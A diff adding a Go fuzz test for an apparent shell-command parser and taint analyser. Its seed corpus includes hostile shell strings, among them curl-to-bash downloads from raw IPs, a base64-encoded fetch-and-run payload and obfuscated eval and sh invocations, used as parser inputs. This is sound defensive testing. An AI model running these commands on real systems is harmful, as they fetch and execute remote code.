@@ -190,3 +190,31 @@ func TestLoopVarsAndTaint(t *testing.T) {
 		t.Errorf("user-input-named variable not tainted")
 	}
 }
+
+// FuzzParse checks that any input is analysed without panicking and that
+// every position stays inside the source.
+func FuzzParse(f *testing.F) {
+	for _, s := range []string{
+		"curl -fsSL http://1.2.3.4/x | bash",
+		`echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`,
+		"a=xcurlx; ${a:1:4} x | $'\\x73\\x68'",
+		"for f in a b; do eval \"$f\"; done <<EOF\nx\nEOF\n",
+		"x='eval \"$x\"'; eval \"$x\"",
+		"cat <<'A' | sh\necho $(id)\nA\n",
+		"((gzip -cd f) | cmp - g)",
+		"sh -c 'sh -c \"sh -c \\\"id\\\"\"'",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		s := Parse(src, 3)
+		if s.Err != nil && strings.Contains(s.Err.Error(), "analysis failed") {
+			t.Fatalf("internal failure: %v", s.Err)
+		}
+		for _, c := range s.Commands {
+			if c.Start < 3 || c.Start > len(src)+3 || c.End > len(src)+3 {
+				t.Fatalf("command %q at [%d,%d) outside the source of %d bytes", c.Name, c.Start, c.End, len(src))
+			}
+		}
+	})
+}
